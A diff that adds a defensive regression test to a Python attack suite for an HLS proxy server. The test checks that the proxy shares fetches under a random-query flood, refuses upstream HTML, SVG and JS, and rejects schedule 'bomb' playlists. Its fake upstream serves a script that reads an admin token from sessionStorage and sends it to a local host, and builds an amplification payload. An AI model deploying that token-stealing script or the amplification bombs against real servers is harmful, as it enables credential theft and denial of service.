@@ -47,6 +47,11 @@ serves or grow without bound. The timeouts here only stop a hung test; no outcom
    publishes schedules gets 404 (malformed ones 400) and stores nothing, the real document is still
    served; an upstream whose schedule documents are too large, too deep, too many entries or not
    JSON, flattened into plain tags, adds no date ranges and its playlists are still served.
+22. (Issue 42, items 5-7) 64 connections with `?r=<random>` on a stalling upstream playlist share one
+   fetch (the query is not forwarded) and a viewer is still served; an upstream's `.html`, `.svg` and
+   `.js` are not proxied, and a segment the upstream labels `text/html` goes out as `video/iso.segment`
+   with `nosniff` and `Content-Security-Policy: sandbox`; 120 schedule tags (120,000 date ranges), or
+   16 tags of 1,000 entries, get 502 at once, three renders at a time, without growing the server.
 """
 
 import argparse
@@ -1276,6 +1281,153 @@ def schedule_attacks(hlsi, workdir):
         upstream.shutdown()
 
 
+class IsolationUpstream(http.server.ThreadingHTTPServer):
+    """Issue 42's hostile upstream: a playlist that stalls, pages and scripts under the entry's
+    directory, a segment labelled as HTML, and playlists whose schedules would flatten into
+    120,000 date ranges."""
+
+    daemon_threads = True
+    MEDIA = ("#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n#EXT-X-PLAYLIST-TYPE:VOD\n"
+             + "".join(f"#EXTINF:4.0,\nseg{i}.m4s\n" for i in range(5)) + "#EXT-X-ENDLIST\n").encode()
+    PAGE = b"<script>fetch('http://127.0.0.1:9/?t='+sessionStorage.getItem('hlsi-admin-token'))</script>"
+    # 1,000 entries: within the document limit, 120,000 in all once named by 120 tags.
+    @staticmethod
+    def document(prefix):
+        return (b'{"DATERANGES":[' + b",".join(
+            b'{"ID":"%s%d","CLASS":"com.apple.hls.interstitial","X-SCHEDULE-OFFSET":%d,"DURATION":1,'
+            b'"X-ASSET-URI":"https://ads.example/a.m3u8","X-PAD":"%s"}' % (prefix, i, i % 20, b"a" * 600)
+            for i in range(1000)) + b"]}")
+
+    def __init__(self, *args, **kwargs):
+        super().__init__(*args, **kwargs)
+        self.lock = threading.Lock()
+        self.seen = []
+
+    @staticmethod
+    def bomb(tags, distinct):
+        text = ("#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n#EXT-X-PLAYLIST-TYPE:VOD\n"
+                "#EXT-X-PROGRAM-DATE-TIME:2026-03-01T10:00:00.000Z\n")
+        for index in range(tags):
+            uri = f"doc{index}.json" if distinct else "doc.json"
+            text += (f'#EXT-X-DATERANGE:ID="s{index}",CLASS="com.apple.hls.daterange-schedule",'
+                     f'START-DATE="2026-03-01T10:00:00.000Z",X-URI="{uri}"\n')
+        return (text + "".join(f"#EXTINF:4.0,\nseg{i}.m4s\n" for i in range(5)) + "#EXT-X-ENDLIST\n").encode()
+
+    class Handler(QuietHandler):
+        def do_GET(self):
+            with self.server.lock:
+                self.server.seen.append(self.path)
+            path = self.path.split("?")[0]
+            if path == "/q/stall.m3u8":
+                self.send_response(200)
+                self.send_header("Content-Type", "application/vnd.apple.mpegurl")
+                self.send_header("Content-Length", "100000")
+                self.end_headers()
+                self.wfile.write(b"#EXTM3U\n")
+                self.wfile.flush()
+                time.sleep(4)
+            elif path == "/q/main.m3u8":
+                self.answer(IsolationUpstream.MEDIA, "application/vnd.apple.mpegurl")
+            elif path in ("/q/evil.html", "/q/evil.svg", "/q/evil.js"):
+                self.answer(IsolationUpstream.PAGE, "text/html")
+            elif path == "/q/seg0.m4s":
+                self.answer(IsolationUpstream.PAGE, "text/html")
+            elif path == "/bomb/main.m3u8":
+                self.answer(IsolationUpstream.bomb(120, False), "application/vnd.apple.mpegurl")
+            elif path == "/wide/main.m3u8":
+                self.answer(IsolationUpstream.bomb(16, True), "application/vnd.apple.mpegurl")
+            elif path.endswith(".json"):
+                # Each document its own IDs: 16 of them are 16,000 date ranges.
+                name = path.rsplit("/", 1)[-1].removesuffix(".json")
+                self.answer(IsolationUpstream.document(name.encode() + b"-"), "application/json")
+            else:
+                self.answer(b"no", "text/plain", 404)
+
+
+def rss_mib(pid):
+    """The resident set of a process, in MiB (Linux), or None."""
+    try:
+        with open(f"/proc/{pid}/status") as status:
+            for line in status:
+                if line.startswith("VmRSS:"):
+                    return int(line.split()[1]) / 1024
+    except OSError:
+        return None
+    return None
+
+
+def isolation_attacks(hlsi, workdir):
+    # Issue 42, items 5-7: random queries took all 32 upstream slots (503 upstream-busy for real
+    # viewers); an upstream's .html ran on the console's origin and sent the admin token away;
+    # 120 schedule tags made a 1 KB playlist 104 MB (8.6 s, 715 MB RSS per render).
+    print("22. upstream isolation: random queries, upstream pages, schedule bombs", flush=True)
+    upstream = IsolationUpstream(("127.0.0.1", 0), IsolationUpstream.Handler)
+    threading.Thread(target=upstream.serve_forever, daemon=True).start()
+    origin = f"http://127.0.0.1:{upstream.server_address[1]}"
+    port = free_port()
+    limits = dict(LIMITS, upstreamConcurrency=8, upstreamTimeout=3)
+    config = base_config(port, os.path.join(workdir, "isolation.sqlite"), limits)
+    config["allowedOrigins"] = [origin]
+    config["vod"] += [{"id": "q", "upstream": f"{origin}/q/main.m3u8"},
+                      {"id": "bomb", "upstream": f"{origin}/bomb/main.m3u8", "flattenSchedules": True},
+                      {"id": "wide", "upstream": f"{origin}/wide/main.m3u8", "flattenSchedules": True}]
+    server = Server(hlsi, config, workdir, "isolation")
+    try:
+        # Item 5: 64 connections with ?r=<random> on a stalling playlist, while a viewer plays.
+        flood = [threading.Thread(target=request, args=(server.base, "GET", f"/vod/q/stall.m3u8?r={os.urandom(8).hex()}"),
+                                  kwargs={"timeout": 15}, daemon=True) for _ in range(64)]
+        for thread in flood:
+            thread.start()
+        time.sleep(0.5)  # lets the flood arrive; the checks below do not depend on it
+        statuses = [request(server.base, "GET", "/vod/q/main.m3u8?r=viewer")[0] for _ in range(5)]
+        check(statuses == [200] * 5, f"a viewer is served during a random-query flood (got {statuses})")
+        for thread in flood:
+            thread.join(20)
+        with upstream.lock:
+            stalls = [path for path in upstream.seen if path.startswith("/q/stall.m3u8")]
+        check(all(path == "/q/stall.m3u8" for path in stalls) and 1 <= len(stalls) <= 4,
+              f"the flood's queries are not forwarded and share fetches (upstream saw {len(stalls)}: {stalls[:3]})")
+        # Item 6: nothing the upstream serves runs as a page of the server's origin.
+        for name in ("evil.html", "evil.svg", "evil.js"):
+            status, headers, body = request(server.base, "GET", f"/vod/q/{name}")
+            check(status == 404 and b"<script>" not in body, f"an upstream {name} is not proxied (got {status})")
+        status, headers, body = request(server.base, "GET", "/vod/q/seg0.m4s")
+        check(status == 200 and headers.get("Content-Type") == "video/iso.segment"
+              and headers.get("X-Content-Type-Options") == "nosniff"
+              and headers.get("Content-Security-Policy") == "sandbox",
+              f"a proxied segment has the server's type, nosniff and a sandbox (got {status} {headers})")
+        # Item 7: 120 schedule tags, and 16 tags of 1,000 entries each, are refused with 502.
+        def documents_fetched():
+            with upstream.lock:
+                return len([path for path in upstream.seen if path.endswith(".json")])
+        rss_before = rss_mib(server.process.pid)
+        for name, most in (("bomb", 0), ("wide", 3 * 16)):
+            before = documents_fetched()
+            started = time.time()
+            results = []
+            renders = [threading.Thread(target=lambda: results.append(
+                request(server.base, "GET", f"/vod/{name}/main.m3u8", timeout=60)), daemon=True) for _ in range(3)]
+            for thread in renders:
+                thread.start()
+            for thread in renders:
+                thread.join(60)
+            statuses = sorted(result[0] for result in results)
+            sizes = max((len(result[2]) for result in results), default=0)
+            check(statuses == [502] * 3 and sizes < 4096,
+                  f"three concurrent renders of {name} get 502 at once (got {statuses}, {sizes} bytes, "
+                  f"{time.time() - started:.1f} s)")
+            documents = documents_fetched() - before
+            check(documents <= most, f"{name}: at most 16 schedule documents per render are fetched (got {documents})")
+        rss_after = rss_mib(server.process.pid)
+        if rss_before is not None and rss_after is not None:
+            check(rss_after - rss_before < 300,
+                  f"the renders do not grow the server by hundreds of MB (RSS {rss_before:.0f} -> {rss_after:.0f} MiB)")
+        check(server.alive(), "the server still serves")
+    finally:
+        server.stop()
+        upstream.shutdown()
+
+
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--hlsi", required=True)
@@ -1294,6 +1446,7 @@ def main():
         console_attacks(os.path.abspath(args.hlsi), workdir)
         upstream_attacks(os.path.abspath(args.hlsi), workdir)
         schedule_attacks(os.path.abspath(args.hlsi), workdir)
+        isolation_attacks(os.path.abspath(args.hlsi), workdir)
     finally:
         shutil.rmtree(workdir, ignore_errors=True)
     print(f"attacks: {len(failures)} failed", flush=True)
